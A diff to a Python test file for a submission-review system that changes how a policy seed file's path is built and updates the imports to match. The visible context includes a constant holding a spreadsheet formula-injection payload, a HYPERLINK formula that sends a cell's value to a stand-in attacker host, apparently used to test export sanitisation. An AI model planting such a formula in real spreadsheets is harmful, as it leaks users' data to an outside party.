@@ -14,7 +14,6 @@ import csv
 import io
 import zipfile
 from datetime import UTC, datetime, timedelta
-from pathlib import Path
 
 import openpyxl
 from sqlmodel import select
@@ -39,7 +38,7 @@ from tests.api.factories import (
     token,
 )
 from tests.api.test_review_chain_e2e import UNIT_REVIEW
-from tests.conftest import Stack
+from tests.conftest import ROOT, Stack
 
 RULE = (
     "对推荐至评委会的申报材料，经审核发现存在问题的比例达到或超过本单位申报总数 10%的，"
@@ -50,7 +49,8 @@ HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 
 
 def test_the_rule_is_the_seeds_and_its_thresholds_are_inclusive() -> None:
-    seed = Path("/work/shared/seeds/004_45e6121143d927cc.txt")
+    # The policy seeds sit beside the checkout (shared/seeds/), where they are laid out.
+    seed = ROOT.parent / "shared" / "seeds" / "004_45e6121143d927cc.txt"
     assert RULE in seed.read_text(encoding="utf-8")
     # "达到或超过": 1 of 10 is 10 % (a 说明), 2 of 10 is 20 % (and a 整改方案).
     assert requirement(10, 0)[0] == "none"
